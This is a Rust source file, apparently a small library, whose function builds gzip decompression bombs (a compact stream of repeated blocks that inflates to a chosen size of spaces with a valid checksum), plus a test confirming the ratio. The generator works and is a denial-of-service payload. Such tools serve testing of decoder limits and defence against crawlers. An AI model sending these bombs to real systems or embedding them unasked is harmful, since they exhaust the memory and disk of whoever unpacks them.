//! A gzip bomb: a little that unpacks to very much.

use std::io::Write;

use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};

/// What is packed once and then repeated.
const BLOCK: usize = 1 << 20;
/// A gzip head without name and time.
const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
/// An empty last block.
const LAST: [u8; 2] = [3, 0];

/// At least `bytes` spaces, packed about a thousand to one, check sum and all.
#[must_use]
pub fn spaces(bytes: u64) -> Vec<u8> {
    let block = vec![b' '; BLOCK];
    let packed = pack(&block);
    let times = bytes.div_ceil(u64::try_from(BLOCK).unwrap_or(u64::MAX));
    let mut one = Crc::new();
    one.update(&block);
    let mut sum = Crc::new();
    let mut bomb = HEAD.to_vec();
    for _ in 0..times {
        bomb.extend_from_slice(&packed);
        sum.combine(&one);
    }
    bomb.extend_from_slice(&LAST);
    bomb.extend_from_slice(&sum.sum().to_le_bytes());
    bomb.extend_from_slice(&sum.amount().to_le_bytes());
    bomb
}

/// A whole number of bytes that any decoder can be in the middle of: a flush ends
/// the block, and what follows looks back no further than into another such block.
fn pack(block: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
    // Writing to memory does not fail.
    let _ = encoder.write_all(block).and_then(|()| encoder.flush());
    encoder.get_ref().clone()
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use flate2::read::GzDecoder;

    use super::*;

    #[test]
    fn unpacks_to_what_was_asked_for_with_a_right_check_sum() {
        let bomb = spaces(3 << 20);
        assert!(bomb.len() < 10_000, "{}", bomb.len());
        let mut unpacked = Vec::new();
        GzDecoder::new(bomb.as_slice())
            .read_to_end(&mut unpacked)
            .unwrap();
        assert_eq!(unpacked.len(), 3 << 20);
        assert!(unpacked.iter().all(|byte| *byte == b' '));
    }
}
